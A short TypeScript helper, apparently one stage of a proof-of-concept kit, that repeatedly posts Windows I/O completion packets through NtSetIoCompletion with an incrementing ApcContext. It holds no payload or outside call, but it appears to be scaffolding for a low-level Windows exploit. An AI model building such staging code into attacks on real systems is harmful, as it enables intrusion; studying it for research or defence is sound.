import { NtSetIoCompletion, STATUS_SUCCESS } from 'ntdllx';
import { serveHelper } from 'poc-kit';
import type { WakeTask } from './stage0-wake.js';

// Posts the packet as often as it is asked to, counting ApcContext up. Answers the first refusal.
serveHelper<WakeTask, number>(({ port, packet, count = 1 }) => {
  for (let index = 0; index < count; index += 1) {
    const context = packet.context + BigInt(index);
    const { key, status, information } = packet;
    const result = NtSetIoCompletion(port, key, context, status, information);
    if (result !== STATUS_SUCCESS) return result;
  }
  return STATUS_SUCCESS;
});
